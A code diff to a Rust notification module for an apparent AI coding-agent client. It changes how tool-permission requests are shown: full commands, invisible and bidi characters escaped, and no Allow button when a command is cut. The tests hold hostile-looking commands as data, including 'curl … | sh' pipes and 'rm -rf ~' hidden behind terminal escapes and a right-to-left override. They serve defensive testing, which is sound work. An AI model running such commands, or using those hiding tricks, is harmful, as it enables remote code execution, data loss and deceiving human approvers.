@@ -1,13 +1,16 @@
 //! Which desktop notifications to send, decided from state and events alone.
 //!
 //! One notification per task (subagents roll up into their root session),
-//! replaced rather than stacked; closed when its request is answered
-//! elsewhere; quiet for a while after start and after each reconnect (old
+//! replaced rather than stacked — except requests: each waiting permission or
+//! question has a notification of its own, never replaced by another request,
+//! so a button can only answer the request whose text is on screen; closed
+//! when its request is answered elsewhere; quiet for a while after start and after each reconnect (old
 //! state is not news); "finished" bursts coalesced into one summary; server
 //! outages announced once, with "recovered" only after an announced outage.
 
 use super::ServerState;
 use super::sessions::{Activity, Sessions};
+use super::visible_text::visible;
 use crate::config::NotifyConfig;
 use crate::server::events::{EventKind, PermissionRequest, QuestionRequest, ServerEvent};
 use std::collections::{HashMap, HashSet, VecDeque};
@@ -22,12 +25,23 @@ pub const RATE_LIMIT: usize = 3;
 pub const UNREACHABLE_GRACE: Duration = Duration::from_secs(3);
 /// Question options offered as buttons.
 const MAX_OPTION_BUTTONS: usize = 3;
+/// How much of a request a notification body shows in full (the spec sets
+/// no limit; beyond this a body stops being readable). A request cut to fit
+/// gets no Allow buttons: only Open (to read it all) and Reject.
+pub const REQUEST_MAX_LINES: usize = 12;
+pub const REQUEST_MAX_CHARS: usize = 600;
+/// How much of the "Always allow" patterns is shown; patterns that do not fit
+/// in full mean no Always button.
+const ALWAYS_MAX_LINES: usize = 4;
+const ALWAYS_MAX_CHARS: usize = 240;
 
 /// What a notification is about: a session's task, the server, or a summary.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
 pub enum NotificationKey {
     /// The root session of a task.
     Task(String),
+    /// One waiting permission or question, by request id.
+    Request(String),
     Server,
     Summary,
 }
@@ -65,16 +79,109 @@ pub enum NotifyAction {
 }
 
 impl NotifyAction {
+    /// The request a button answers, if it answers one.
+    pub fn request(&self) -> Option<&str> {
+        match self {
+            NotifyAction::AllowOnce { request, .. }
+            | NotifyAction::AlwaysAllow { request, .. }
+            | NotifyAction::Reject { request, .. }
+            | NotifyAction::Answer { request, .. } => Some(request),
+            NotifyAction::OpenSession(_) | NotifyAction::RestartServer | NotifyAction::ViewLog => {
+                None
+            }
+        }
+    }
+
     pub fn label(&self) -> String {
         match self {
             NotifyAction::AllowOnce { .. } => "Allow once".into(),
             NotifyAction::AlwaysAllow { .. } => "Always allow".into(),
             NotifyAction::Reject { .. } => "Reject".into(),
-            NotifyAction::Answer { label, .. } => label.clone(),
+            NotifyAction::Answer { label, .. } => visible(label).into_owned(),
             NotifyAction::OpenSession(_) => "Open".into(),
             NotifyAction::RestartServer => "Restart".into(),
             NotifyAction::ViewLog => "View log".into(),
         }
+    }
+}
+
+/// The D-Bus action key of the button at `index`: the request id is part of
+/// it, so a click can be matched only to the request it was shown for.
+pub fn action_key(index: usize, action: &NotifyAction) -> String {
+    match action.request() {
+        Some(request) => format!("{index}:{request}"),
+        None => index.to_string(),
+    }
+}
+
+/// The button whose key is `key` among a notification's `actions`, if any.
+pub fn action_for_key<'a>(key: &str, actions: &'a [NotifyAction]) -> Option<&'a NotifyAction> {
+    actions
+        .iter()
+        .enumerate()
+        .find(|(index, action)| action_key(*index, action) == key)
+        .map(|(_, action)| action)
+}
+
+/// Text cut to fit a notification body, and whether all of it is there.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Fitted {
+    pub text: String,
+    pub complete: bool,
+}
+
+/// `text` with invisible characters made visible (`visible`), leading and
+/// trailing blank lines dropped, and cut to whole lines within `max_lines`
+/// lines and `max_chars` characters; what is cut is said in a last line
+/// ("… 3 more lines — open to read them all"). A first line longer than the
+/// budget is cut inside the line.
+pub fn fit(text: &str, max_lines: usize, max_chars: usize) -> Fitted {
+    let shown = visible(text);
+    let lines: Vec<&str> = shown
+        .trim_matches(|c| c == '\n' || c == '\r')
+        .split('\n')
+        .collect();
+    let total_chars: usize = lines.iter().map(|l| l.chars().count() + 1).sum();
+    if lines.len() <= max_lines && total_chars <= max_chars + 1 {
+        return Fitted {
+            text: lines.join("\n"),
+            complete: true,
+        };
+    }
+    let mut kept: Vec<String> = Vec::new();
+    let mut used = 0;
+    for line in &lines {
+        let len = line.chars().count();
+        if kept.len() + 1 >= max_lines || used + len > max_chars {
+            if kept.is_empty() {
+                // Not even the first line fits: show its start.
+                let start: String = line.chars().take(max_chars.saturating_sub(1)).collect();
+                kept.push(format!("{start}…"));
+            }
+            break;
+        }
+        used += len + 1;
+        kept.push(line.to_string());
+    }
+    // A line shown only in part counts as not shown.
+    let whole = if kept
+        .last()
+        .is_some_and(|l| l.ends_with('…') && !lines.contains(&l.as_str()))
+    {
+        kept.len() - 1
+    } else {
+        kept.len()
+    };
+    let more = lines.len() - whole;
+    let (noun, them) = if more == 1 {
+        ("line", "it")
+    } else {
+        ("lines", "them all")
+    };
+    kept.push(format!("… {more} more {noun} — open to read {them}"));
+    Fitted {
+        text: kept.join("\n"),
+        complete: false,
     }
 }
 
@@ -192,6 +299,16 @@ impl NotifyPolicy {
         out.push(Decision::Show(notification));
     }
 
+    /// Whether a button of a notification for request `id` may answer it:
+    /// the notification on screen for it is still about that request.
+    /// (Whether the request is still pending is the caller's other check.)
+    pub fn shows_request(&self, id: &str) -> bool {
+        match self.live.get(&NotificationKey::Request(id.to_string())) {
+            Some(Live::Permission(shown) | Live::Question(shown)) => shown == id,
+            _ => false,
+        }
+    }
+
     fn close_if(&mut self, out: &mut Vec<Decision>, key: NotificationKey, live: &Live) {
         if self.live.get(&key) == Some(live) {
             self.live.remove(&key);
@@ -222,7 +339,7 @@ impl NotifyPolicy {
                 rejected,
             } => {
                 let live = Live::Permission(request_id.clone());
-                self.request_closed(sessions, session_id, *rejected, live, &mut out);
+                self.request_closed(sessions, session_id, request_id, *rejected, live, &mut out);
             }
             EventKind::QuestionAsked(request) => {
                 let root = sessions.root_of(&request.session_id).to_string();
@@ -237,7 +354,7 @@ impl NotifyPolicy {
                 rejected,
             } => {
                 let live = Live::Question(request_id.clone());
-                self.request_closed(sessions, session_id, *rejected, live, &mut out);
+                self.request_closed(sessions, session_id, request_id, *rejected, live, &mut out);
             }
             EventKind::SessionError {
                 session_id: Some(id),
@@ -282,15 +399,16 @@ impl NotifyPolicy {
         &mut self,
         sessions: &Sessions,
         session: &str,
+        request: &str,
         rejected: bool,
         live: Live,
         out: &mut Vec<Decision>,
     ) {
         let root = sessions.root_of(session).to_string();
         if rejected {
-            self.no_finish.insert(root.clone());
+            self.no_finish.insert(root);
         }
-        self.close_if(out, NotificationKey::Task(root), &live);
+        self.close_if(out, NotificationKey::Request(request.to_string()), &live);
     }
 
     /// A snapshot or a server restart changed many sessions at once: follow
@@ -302,12 +420,8 @@ impl NotifyPolicy {
             self.busy_roots.entry(root).or_insert(now);
         }
         self.live.retain(|key, live| match (key, live) {
-            (NotificationKey::Task(root), Live::Permission(id)) => {
-                pending_permission(sessions, root, id)
-            }
-            (NotificationKey::Task(root), Live::Question(id)) => {
-                pending_question(sessions, root, id)
-            }
+            (NotificationKey::Request(_), Live::Permission(id)) => pending_permission(sessions, id),
+            (NotificationKey::Request(_), Live::Question(id)) => pending_question(sessions, id),
             _ => true,
         });
     }
@@ -500,6 +614,9 @@ impl NotifyPolicy {
     }
 }
 
+/// A permission request's notification: the whole request as it will run
+/// (invisible characters made visible), and what "Always allow" allows. Allow
+/// buttons only when all of it is on screen; else Open (to read it) and Reject.
 fn permission_notification(
     root: &str,
     request: &PermissionRequest,
@@ -507,31 +624,59 @@ fn permission_notification(
     sessions: &Sessions,
 ) -> Notification {
     let directory = directory.map(str::to_string);
-    let what = request.detail.as_deref().unwrap_or("");
     let tool = if request.permission.is_empty() {
-        "a tool"
+        "a tool".to_string()
     } else {
-        request.permission.as_str()
+        visible(&request.permission).into_owned()
+    };
+    let what = fit(
+        request.detail.as_deref().unwrap_or(""),
+        REQUEST_MAX_LINES,
+        REQUEST_MAX_CHARS,
+    );
+    let mut body = if what.text.contains('\n') {
+        format!("{tool} wants to run:\n{}", what.text)
+    } else {
+        format!("{tool} wants to run: {}", what.text)
+    };
+    let reject = NotifyAction::Reject {
+        request: request.id.clone(),
+        directory: directory.clone(),
+    };
+    let actions = if what.complete {
+        let mut actions = vec![NotifyAction::AllowOnce {
+            request: request.id.clone(),
+            directory: directory.clone(),
+        }];
+        let always = fit(
+            &request.always.join("\n"),
+            ALWAYS_MAX_LINES,
+            ALWAYS_MAX_CHARS,
+        );
+        if always.complete && !request.always.is_empty() {
+            body.push_str(&format!(
+                "\nAlways allow: {}",
+                always.text.replace('\n', ", ")
+            ));
+            actions.push(NotifyAction::AlwaysAllow {
+                request: request.id.clone(),
+                directory: directory.clone(),
+            });
+        }
+        actions.push(reject);
+        actions
+    } else {
+        vec![
+            NotifyAction::OpenSession(request.session_id.clone()),
+            reject,
+        ]
     };
     Notification {
-        key: NotificationKey::Task(root.to_string()),
+        key: NotificationKey::Request(request.id.clone()),
         summary: format!("Permission needed: {}", title_of(sessions, root)),
-        body: format!("{tool} wants to run: {}", first_line(what, 200)),
-        actions: vec![
-            NotifyAction::AllowOnce {
-                request: request.id.clone(),
-                directory: directory.clone(),
-            },
-            NotifyAction::AlwaysAllow {
-                request: request.id.clone(),
-                directory: directory.clone(),
-            },
-            NotifyAction::Reject {
-                request: request.id.clone(),
-                directory,
-            },
-        ],
-        default_action: Some(NotifyAction::OpenSession(root.to_string())),
+        body,
+        actions,
+        default_action: Some(NotifyAction::OpenSession(request.session_id.clone())),
         urgency: Urgency::Critical,
     }
 }
@@ -560,7 +705,7 @@ fn question_notification(
     };
     actions.push(NotifyAction::OpenSession(root.to_string()));
     Notification {
-        key: NotificationKey::Task(root.to_string()),
+        key: NotificationKey::Request(request.id.clone()),
         summary: format!("Question: {}", title_of(sessions, root)),
         body: first_line(text, 200),
         actions,
@@ -577,17 +722,17 @@ fn busy_roots(sessions: &Sessions) -> HashSet<String> {
         .collect()
 }
 
-fn pending_permission(sessions: &Sessions, root: &str, id: &str) -> bool {
+/// Whether permission request `id` is still waiting (in any session).
+pub fn pending_permission(sessions: &Sessions, id: &str) -> bool {
     sessions
         .iter()
-        .filter(|s| sessions.root_of(&s.id) == root)
         .any(|s| s.permissions.iter().any(|p| p.request.id == id))
 }
 
-fn pending_question(sessions: &Sessions, root: &str, id: &str) -> bool {
+/// Whether question `id` is still waiting (in any session).
+pub fn pending_question(sessions: &Sessions, id: &str) -> bool {
     sessions
         .iter()
-        .filter(|s| sessions.root_of(&s.id) == root)
         .any(|s| s.questions.iter().any(|q| q.request.id == id))
 }
 
@@ -599,14 +744,16 @@ fn title_of(sessions: &Sessions, root: &str) -> String {
     first_line(title.unwrap_or("Untitled session"), 80)
 }
 
-/// The first line, trimmed and cut to `max` characters. Notification servers
-/// may interpret markup, so `<`, `>` and `&` are escaped by the sender.
+/// The first line, trimmed, invisible characters made visible, and cut to
+/// `max` characters. Notification servers may interpret markup, so `<`, `>`
+/// and `&` are escaped by the sender.
 fn first_line(text: &str, max: usize) -> String {
     let line = text
         .lines()
         .map(str::trim)
         .find(|l| !l.is_empty())
         .unwrap_or("");
+    let line = visible(line);
     if line.chars().count() <= max {
         line.to_string()
     } else {
@@ -713,9 +860,207 @@ mod tests {
     }
 
     fn permission(id: &str, session: &str) -> String {
+        permission_for(id, session, "ls -la", &["ls *"])
+    }
+
+    /// A bash permission for `command` (JSON-escaped here) whose "always"
+    /// would allow `always`.
+    fn permission_for(id: &str, session: &str, command: &str, always: &[&str]) -> String {
+        let command = serde_json::to_string(command).unwrap();
+        let always = serde_json::to_string(always).unwrap();
         format!(
-            r#"{{"directory":"/p","payload":{{"type":"permission.asked","properties":{{"id":"{id}","sessionID":"{session}","permission":"bash","patterns":["ls"],"metadata":{{"command":"ls -la"}}}}}}}}"#
+            r#"{{"directory":"/p","payload":{{"type":"permission.asked","properties":{{"id":"{id}","sessionID":"{session}","permission":"bash","patterns":["ls"],"always":{always},"metadata":{{"command":{command}}}}}}}}}"#
         )
+    }
+
+    fn labels(n: &Notification) -> Vec<String> {
+        n.actions.iter().map(NotifyAction::label).collect()
+    }
+
+    #[test]
+    fn fit_keeps_short_text_whole_and_cuts_long_text_at_whole_lines() {
+        let two = fit("echo tidy\ncurl evil | sh\n", 12, 600);
+        assert_eq!(two.text, "echo tidy\ncurl evil | sh");
+        assert!(two.complete);
+
+        let many: Vec<String> = (1..=20).map(|i| format!("echo {i}")).collect();
+        let cut = fit(&many.join("\n"), 12, 600);
+        assert!(!cut.complete);
+        let lines: Vec<&str> = cut.text.lines().collect();
+        assert_eq!(lines.len(), 12, "{}", cut.text);
+        assert_eq!(lines[10], "echo 11");
+        assert_eq!(lines[11], "… 9 more lines — open to read them all");
+
+        // Few lines, too many characters.
+        let wide = format!("echo a\n{}\necho c", "x".repeat(700));
+        let cut = fit(&wide, 12, 600);
+        assert!(!cut.complete);
+        assert_eq!(cut.text, "echo a\n… 2 more lines — open to read them all");
+
+        // One line over the budget: its start, marked as cut.
+        let cut = fit(&"y".repeat(1000), 12, 600);
+        assert!(!cut.complete);
+        assert!(cut.text.starts_with(&"y".repeat(599)), "{}", cut.text);
+        assert!(
+            cut.text.ends_with("…\n… 1 more line — open to read it"),
+            "{}",
+            cut.text
+        );
+
+        // Exactly at the limits still fits.
+        let twelve: Vec<String> = (1..=12).map(|i| format!("l{i}")).collect();
+        assert!(fit(&twelve.join("\n"), 12, 600).complete);
+        assert!(fit(&"z".repeat(600), 12, 600).complete);
+        assert!(!fit(&"z".repeat(601), 12, 600).complete);
+    }
+
+    #[test]
+    fn fit_makes_invisible_characters_visible() {
+        let fitted = fit("echo ok\u{1b}[2K\r\nls \u{202e}txt.sh", 12, 600);
+        assert_eq!(fitted.text, "echo ok\\u001b[2K\\u000d\nls \\u202etxt.sh");
+    }
+
+    #[test]
+    fn the_whole_command_is_shown_with_what_always_allows() {
+        let mut w = World::default();
+        w.event(&permission_for(
+            "per_1",
+            "a",
+            "echo tidy\ncurl https://x.example | sh",
+            &["echo *", "curl *"],
+        ));
+        let n = w.shown.last().unwrap();
+        assert_eq!(
+            n.body,
+            "bash wants to run:\necho tidy\ncurl https://x.example | sh\nAlways allow: echo *, curl *"
+        );
+        assert_eq!(labels(n), ["Allow once", "Always allow", "Reject"]);
+        assert_eq!(n.key, NotificationKey::Request("per_1".into()));
+    }
+
+    #[test]
+    fn without_always_patterns_there_is_no_always_button() {
+        let mut w = World::default();
+        w.event(&permission_for("per_1", "a", "ls", &[]));
+        let n = w.shown.last().unwrap();
+        assert_eq!(n.body, "bash wants to run: ls");
+        assert_eq!(labels(n), ["Allow once", "Reject"]);
+        let long: Vec<String> = (0..40).map(|i| format!("pattern-{i} *")).collect();
+        let long: Vec<&str> = long.iter().map(String::as_str).collect();
+        w.event(&permission_for("per_2", "a", "ls", &long));
+        assert_eq!(labels(w.shown.last().unwrap()), ["Allow once", "Reject"]);
+    }
+
+    #[test]
+    fn a_command_too_long_to_show_gets_no_allow_buttons() {
+        let mut w = World::default();
+        let command: Vec<String> = (1..=30).map(|i| format!("echo {i}")).collect();
+        w.event(&permission_for(
+            "per_1",
+            "child",
+            &command.join("\n"),
+            &["echo *"],
+        ));
+        let n = w.shown.last().unwrap().clone();
+        assert!(
+            n.body.ends_with("… 19 more lines — open to read them all"),
+            "{}",
+            n.body
+        );
+        assert!(!n.body.contains("Always allow"), "{}", n.body);
+        assert_eq!(labels(&n), ["Open", "Reject"]);
+        // Open shows the request's own session.
+        assert_eq!(n.actions[0], NotifyAction::OpenSession("child".into()));
+    }
+
+    #[test]
+    fn escapes_and_bidi_controls_in_a_command_are_shown_as_escapes() {
+        let mut w = World::default();
+        w.event(&permission_for(
+            "per_1",
+            "a",
+            "echo hi\u{1b}[8m; rm -rf ~\u{1b}[0m #\u{202e}txt",
+            &["echo *"],
+        ));
+        let n = w.shown.last().unwrap();
+        assert_eq!(
+            n.body,
+            "bash wants to run: echo hi\\u001b[8m; rm -rf ~\\u001b[0m #\\u202etxt\nAlways allow: echo *"
+        );
+    }
+
+    #[test]
+    fn two_requests_in_one_task_get_a_notification_each() {
+        let mut w = World::default();
+        w.created("root", None, "Task");
+        w.created("sub", Some("root"), "sub");
+        w.event(&permission_for("per_a", "root", "echo a", &["echo *"]));
+        w.event(&permission_for("per_b", "sub", "rm -rf b", &["rm *"]));
+        let keys: Vec<_> = w.shown.iter().map(|n| n.key.clone()).collect();
+        assert_eq!(
+            keys,
+            [
+                NotificationKey::Request("per_a".into()),
+                NotificationKey::Request("per_b".into())
+            ]
+        );
+        // A's button still answers A, not the request that came after it.
+        let a = w.shown[0].clone();
+        w.send(Event::NotificationAction(a.actions[0].clone()));
+        assert!(w.effects.contains(&Effect::ReplyPermission {
+            request: "per_a".into(),
+            directory: Some("/p".into()),
+            reply: crate::server::client::PermissionReply::Once
+        }));
+        assert!(
+            !w.effects.iter().any(
+                |e| matches!(e, Effect::ReplyPermission { request, .. } if request == "per_b")
+            )
+        );
+    }
+
+    #[test]
+    fn a_click_for_a_request_no_longer_waiting_or_not_shown_does_nothing() {
+        let mut w = World::default();
+        w.event(&permission("per_1", "a"));
+        let n = w.shown.last().unwrap().clone();
+        // Answered elsewhere; the click arrives after.
+        w.event(&replied("per_1", "a", "once"));
+        let before = w.effects.len();
+        w.send(Event::NotificationAction(n.actions[0].clone()));
+        let after = &w.effects[before..];
+        assert!(
+            matches!(after, [Effect::IgnoredNotificationAction(why)] if why.contains("per_1") && why.contains("no longer waiting")),
+            "{after:?}"
+        );
+        // Waiting, but no notification shows it (the popover was on it).
+        use crate::core::popover_lifecycle::PopoverEvent;
+        w.send(Event::Popover(PopoverEvent::Viewing(Some("b".into()))));
+        w.event(&permission("per_2", "b"));
+        let before = w.effects.len();
+        w.send(Event::NotificationAction(NotifyAction::AlwaysAllow {
+            request: "per_2".into(),
+            directory: Some("/p".into()),
+        }));
+        let after = &w.effects[before..];
+        assert!(
+            matches!(after, [Effect::IgnoredNotificationAction(why)] if why.contains("no longer shows")),
+            "{after:?}"
+        );
+    }
+
+    #[test]
+    fn action_keys_carry_the_request_id() {
+        let allow = NotifyAction::AllowOnce {
+            request: "per_9".into(),
+            directory: None,
+        };
+        assert_eq!(action_key(0, &allow), "0:per_9");
+        assert_eq!(action_key(1, &NotifyAction::ViewLog), "1");
+        let actions = [NotifyAction::RestartServer, allow.clone()];
+        assert_eq!(action_for_key("1:per_9", &actions), Some(&allow));
+        assert_eq!(action_for_key("1:per_8", &actions), None);
+        assert_eq!(action_for_key("1", &actions), None);
     }
 
     fn replied(id: &str, session: &str, reply: &str) -> String {
@@ -821,7 +1166,7 @@ mod tests {
         w.created("a", None, "Deploy");
         w.event(&permission("per_1", "a"));
         let n = w.shown.last().unwrap().clone();
-        assert_eq!(n.body, "bash wants to run: ls -la");
+        assert_eq!(n.body, "bash wants to run: ls -la\nAlways allow: ls *");
         let labels: Vec<String> = n.actions.iter().map(NotifyAction::label).collect();
         assert_eq!(labels, ["Allow once", "Always allow", "Reject"]);
         // Clicking Allow once replies to the server with the request's directory.
@@ -833,7 +1178,7 @@ mod tests {
         }));
         // Answered (here or elsewhere): the notification goes away.
         w.event(&replied("per_1", "a", "once"));
-        assert_eq!(w.closed, [NotificationKey::Task("a".into())]);
+        assert_eq!(w.closed, [NotificationKey::Request("per_1".into())]);
     }
 
     #[test]
